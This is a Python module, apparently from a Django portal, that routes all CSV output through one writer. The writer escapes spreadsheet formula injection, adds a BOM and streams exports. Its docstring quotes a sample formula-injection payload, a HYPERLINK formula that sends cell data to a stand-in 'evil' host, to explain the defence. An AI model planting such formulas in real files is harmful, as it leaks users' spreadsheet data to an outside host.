"""The one CSV writer: every CSV file the portal sends or writes goes through here.

**Formula injection.** Excel, LibreOffice and Google Sheets take a cell that starts with
``=``, ``+``, ``-`` or ``@`` (and, in some versions, a tab or a carriage return) for a
formula: a serial number ``=HYPERLINK("http://evil/?"&A1)`` echoed into a refused-rows
file would run when the user opens it. Every text cell that starts with one of those
gets a single quote in front (OWASP's advice), which every spreadsheet shows as text.
Numbers are written as numbers: ``-5`` is no formula.

The escape is reversible, so a file we wrote can be read back exactly (the enrollment
import reads its own refused-rows file, a checker reads the audit export):
``unescape`` takes the quote off a cell that starts with a quote followed by one of the
characters above or by a second quote. For that to hold, a value that would read as an
escape (``'=x``, ``''``) is escaped too; a plain ``'s-Hertogenbosch`` is left alone.

**Encoding.** UTF-8 with a byte order mark, lines ending in CRLF (RFC 4180). The files
are for people with spreadsheets first, and Excel opens a CSV without a BOM in the
machine's legacy code page ("Müller" becomes "MÃ¼ller"); the BOM costs three bytes,
the enrollment import skips it, and Python reads it with ``encoding="utf-8-sig"``.

**Streaming.** Rows are written as they come, a chunk of them at a time, so a
100,000-entry audit export never sits in memory whole; give ``rows`` an iterator.
"""

import csv
import io
from collections.abc import Iterable, Iterator
from pathlib import Path

from django.http import StreamingHttpResponse
from django.utils.cache import add_never_cache_headers

BOM = "\ufeff"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"
CHUNK_ROWS = 500  # rows per piece of a streamed response


def unescape(cell: str) -> str:
    """A cell as it was before ``escape``: one leading quote off, when it is an escape."""
    if cell[:1] == QUOTE and cell[1:2] and cell[1] in (*FORMULA_STARTS, QUOTE):
        return cell[1:]
    return cell


def escape(value):
    """A value a spreadsheet shows as text, never runs; anything but ``str`` unchanged."""
    if isinstance(value, str) and (value[:1] in FORMULA_STARTS or unescape(value) != value):
        return QUOTE + value
    return value


def lines(header: Iterable, rows: Iterable[Iterable]) -> Iterator[str]:
    """The file as text pieces: the BOM and the header first, then ``CHUNK_ROWS`` rows each."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\r\n")
    writer.writerow([escape(cell) for cell in header])
    yield BOM + buffer.getvalue()
    buffer.seek(0)
    buffer.truncate()
    pending = 0
    for row in rows:
        writer.writerow([escape(cell) for cell in row])
        pending += 1
        if pending == CHUNK_ROWS:
            yield buffer.getvalue()
            buffer.seek(0)
            buffer.truncate()
            pending = 0
    if pending:
        yield buffer.getvalue()


def text(header: Iterable, rows: Iterable[Iterable]) -> str:
    """The whole file as one string (small files: tests, a session's copy)."""
    return "".join(lines(header, rows))


def write(path: Path | str, header: Iterable, rows: Iterable[Iterable]) -> None:
    """Write the file to ``path``."""
    with open(path, "w", encoding="utf-8", newline="") as fh:
        for piece in lines(header, rows):
            fh.write(piece)


def response(filename: str, header: Iterable, rows: Iterable[Iterable]) -> StreamingHttpResponse:
    """A download, streamed as it is written; never cached (it is the user's data)."""
    safe_name = "".join(c for c in filename if c.isalnum() or c in "._-") or "export.csv"
    reply = StreamingHttpResponse(
        (piece.encode("utf-8") for piece in lines(header, rows)),
        content_type="text/csv; charset=utf-8",
    )
    reply["Content-Disposition"] = f'attachment; filename="{safe_name}"'
    add_never_cache_headers(reply)
    return reply
